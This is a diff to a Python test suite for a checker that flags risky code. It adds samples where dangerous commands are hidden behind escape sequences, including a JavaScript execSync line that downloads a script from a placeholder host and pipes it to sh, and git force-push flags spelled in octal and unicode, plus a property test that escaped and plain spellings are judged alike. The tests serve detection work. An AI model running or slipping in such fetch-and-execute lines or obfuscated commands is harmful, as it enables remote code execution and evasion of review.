@@ -226,6 +226,11 @@ HELD = {
     ),
     "go os/exec imported bare": _block("go", 'import . "os/exec"\n\nfunc f() { Command("sh", "-c", x).Run() }'),
     "js Function reached by constructor": _block("js", "({}).constructor.constructor(code)();"),
+    "js pipe spelled as an escape": _block("js", 'execSync("curl https://x.example/i.sh \\x7c sh");'),
+    "go flag spelled in octal": _block("go", 'exec.Command("git", "push", "\\055\\055force").Run()'),
+    "rust flag spelled in unicode": _block(
+        "rust", 'Command::new("git").args(["push", "\\u{2d}\\u{2d}force"]).status()?;'
+    ),
     "rust hostnames unchecked": _block(
         "rust", "let c = Client::builder().danger_accept_invalid_hostnames(true).build()?;"
     ),
@@ -343,3 +348,12 @@ def test_a_launcher_handed_a_value_is_held(language: str, name: str) -> None:
     }[language]
     if name not in ("true", "false", "null", "let", "fn", "if", "for", "in", "do", "new", "var", "go", "func", "type"):
         assert text_holds(_block(language, body), None)
+
+
+@given(_WORDS, st.sets(st.integers(0, 60)))
+def test_a_command_spelled_with_escapes_is_judged_as_written_plain(words: list[str], escaped: set[int]) -> None:
+    """`\\x7c` is `|` and `\\x2d` is `-` to the program that runs the string: the same holds, spelled either way."""
+    line = " ".join(words)
+    spelled = "".join(f"\\x{ord(c):02x}" if i in escaped else c for i, c in enumerate(line))
+    plain = text_holds(_block("js", f'execSync("{line}");'), None)
+    assert text_holds(_block("js", f'execSync("{spelled}");'), None) == plain
